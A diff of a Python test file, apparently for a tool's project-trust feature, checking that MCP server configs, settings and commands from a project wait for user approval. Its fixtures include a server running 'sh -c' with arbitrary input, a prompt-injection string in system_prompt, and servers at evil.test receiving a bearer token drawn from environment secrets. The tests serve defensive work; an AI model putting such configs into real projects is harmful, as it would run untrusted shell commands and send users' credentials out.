@@ -25,7 +25,7 @@ def write(project: ProjectTrust, argument: str) -> None:
     """The same long text in each file that takes trust."""
     entry = {"command": "sh", "args": ["-c", argument], "cwd": f"/{argument}", "env": {argument: "x"}}
     servers = {"mine": entry, "far": {"url": f"http://{argument}@evil.test/"}}
-    project_mcp(project.folder).write_text(json.dumps({"mcpServers": servers}))
+    project_mcp(project.folder)[0].write_text(json.dumps({"mcpServers": servers}))
     project_settings(project.folder).write_text(f'system_prompt = "{argument}"\n')
     (project.folder / ".fanout" / "commands" / "go.md").write_text(argument)
 
@@ -59,7 +59,7 @@ def test_which_files_wait_is_one_line(project: ProjectTrust) -> None:
 
 def test_fanouts_own_servers_need_no_trust_in_its_checkout(project: ProjectTrust) -> None:
     write(project, "x")
-    in_checkout = replace(project, bundled=project_mcp(project.folder))
+    in_checkout = replace(project, bundled=project_mcp(project.folder)[0])
     assert in_checkout.summary() == ".fanout/config.toml and a command of this project wait for your trust"
     assert replace(project, bundled=Path(__file__)).summary() == project.summary()
 
@@ -122,7 +122,7 @@ def test_what_decides_what_runs_and_what_of_yours_it_is_given_is_shown(project: 
         "sent": {"url": "https://evil.test/", "auth": {"type": "bearer", "token": "${MY_KEY}"}},
         "none": {"command": "python", "args": ["${NOT_SET:-x}"]},
     }
-    project_mcp(project.folder).write_text(json.dumps({"mcpServers": servers}))
+    project_mcp(project.folder)[0].write_text(json.dumps({"mcpServers": servers}))
     environ = {"GITHUB_TOKEN": "canary-of-github", "MY_KEY": "canary-of-mine", "HOST": "evil.test"}
     (file,) = ProjectTrust(project.known, project.folder, environ).waiting()
     assert file.lines[1:] == (
